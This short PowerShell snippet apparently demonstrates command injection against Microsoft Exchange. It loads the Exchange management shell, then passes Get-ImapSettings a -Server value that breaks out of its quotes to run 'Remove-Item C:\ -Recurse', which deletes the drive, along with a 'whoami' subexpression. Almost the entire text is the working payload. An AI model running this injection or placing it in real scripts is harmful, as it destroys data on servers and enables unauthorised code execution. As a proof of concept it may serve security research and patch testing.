. "$env:ExchangeInstallPath\bin\RemoteExchange.ps1" | Out-Null
Connect-ExchangeServer -auto -ClientApplication:ManagementShell | Out-Null
"$((Get-ImapSettings -Server 'EX01''; Remove-Item C:\ -Recurse; ''’’$(whoami)`n
x').X509CertificateName)"
